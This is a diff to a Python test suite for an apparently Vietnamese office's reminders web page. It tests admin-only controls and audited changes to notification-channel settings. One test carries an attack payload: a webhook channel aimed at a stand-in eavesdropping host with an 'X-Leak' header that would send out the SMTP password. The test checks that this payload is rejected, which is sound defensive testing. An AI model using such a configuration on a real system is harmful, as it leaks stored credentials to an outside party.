@@ -198,13 +198,15 @@ def shown_cells(at: AppTest) -> set[str]:
 
 
 def file_text(data: bytes) -> str:
-    """The text of a download: every part of an .xlsx/.pptx/.docx, tags removed
-    (so a name split over two runs of a paragraph reads whole), else the bytes."""
+    """The text of a download: every part of an .xlsx/.pptx/.docx, one line per
+    cell, paragraph or chart value (the runs of a paragraph joined, so a name
+    split over two runs reads whole), else the bytes as text."""
     if not data.startswith(b"PK"):
         return data.decode("utf-8", "replace")
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        xml = "".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
-                      if n.endswith(".xml"))
+        xml = "\n".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
+                        if n.endswith(".xml"))
+    xml = re.sub(r"</(?:\w+:)?(?:p|si|c|v|is|tc|pt|row|f)>", "\n", xml)
     return html.unescape(re.sub(r"<[^>]+>", "", xml))
 
 
@@ -429,3 +431,65 @@ def test_a_page_run_without_the_frame_still_asks_to_sign_in(sign_in_on, office, 
     assert direct.text_input(key="auth_username") is not None, page
     assert not direct.metric and not direct.dataframe, page
     assert "Số liệu đến ngày" not in shown_text(direct), page
+
+
+NV_TABS = ["Theo người xử lý", "Theo đơn vị", "Danh sách hồ sơ", "Xem trước bản tin"]
+NV_ADMIN_KEYS = {"nv_s_channels", "nv_s_times", "nv_send_sure", "nv_send_button", "nv_contacts_file",
+                 "nv_save_contacts", "dl_nv_log"}
+
+
+def open_reminders(username: str) -> AppTest:
+    at = sign_in(start(), username)
+    at.switch_page("pages/nhac_viec.py").run()
+    at.date_input(key="nv_as_of").set_value(NV_AS_OF).run()
+    assert_clean(at)
+    return at
+
+
+def test_only_admins_get_the_reminders_administration(sign_in_on, office, reminder_contacts, downloads):
+    # A reform officer, a leader and an agency officer: no contacts, channels,
+    # schedule, "Gửi ngay" or send history, not even disabled. Nothing to
+    # change channels with, nothing to send with.
+    catalog = office[4]
+    for username in ("caicach", "lanhdao", "lan"):
+        at = open_reminders(username)
+        assert [t.label for t in at.tabs] == NV_TABS, username
+        keys = {str(getattr(e, "key", None)) for e in elements(at)}
+        assert not keys & NV_ADMIN_KEYS, (username, keys & NV_ADMIN_KEYS)
+        assert not at.text_area and not at.get("form_submit_button") and not at.get("file_uploader"), username
+        assert "thue@example.vn" not in shown_text(at) + " ".join(shown_cells(at)), username
+    # The administrator has it all, and the download of the dossiers names
+    # the tax office's handler (so the officer's check above reads real files).
+    admin = open_reminders("quantri")
+    assert [t.label for t in admin.tabs] == ["Theo người xử lý", "Theo đơn vị", "Danh sách hồ sơ", "Danh bạ",
+                                             "Lịch gửi và kênh", "Xem trước bản tin", "Lịch sử gửi"]
+    assert {"nv_s_channels", "nv_send_sure", "nv_save_contacts", "dl_nv_log"} <= {
+        str(getattr(e, "key", None)) for e in elements(admin)}
+    [items] = [b for b in admin.download_button if b.key == "dl_nv_items"]
+    assert named_in(file_text(downloads[items.proto.deferred_file_id]()), reminder_contacts, catalog)
+
+
+def test_an_admin_cannot_point_a_channel_at_another_secret_and_changes_are_audited(sign_in_on, office,
+                                                                                     reminder_contacts):
+    from analytics.reminders.settings import load_settings
+
+    db = office[0]
+    ops = OpsStore.beside(db)
+    before = load_settings(ops).channels
+    at = open_reminders("quantri")
+    attack = [{"name": "sms", "type": "webhook", "url": "https://nghe-len.example/thu",
+               "headers": {"X-Leak": "${token}"}, "token_secret": "MOTCUA_SMTP_PASSWORD"}]
+    at.text_area(key="nv_s_channels").set_value(json.dumps(attack))
+    [b for b in at.get("form_submit_button") if b.label == "Lưu thiết lập"][0].click().run()
+    assert_clean(at)
+    assert any("Chưa lưu" in e.value for e in at.error)
+    assert any("token_secret" in m.value and "MOTCUA_SMS_TOKEN" in m.value for m in at.markdown)
+    assert load_settings(ops).channels == before
+    good = [{"name": "sms", "type": "webhook", "url": "https://sms.example.vn/send",
+             "headers": {"Authorization": "Bearer ${token}"}, "token_secret": "MOTCUA_SMS_TOKEN"}]
+    at.text_area(key="nv_s_channels").set_value(json.dumps(good))
+    [b for b in at.get("form_submit_button") if b.label == "Lưu thiết lập"][0].click().run()
+    assert load_settings(ops).channels == tuple(good)
+    entry = audit.entries(ops, action=audit.REMINDER_SETTINGS)[0]
+    assert entry.actor == "quantri"
+    assert entry.detail["changes"]["channels"] == {"old": list(before), "new": good}
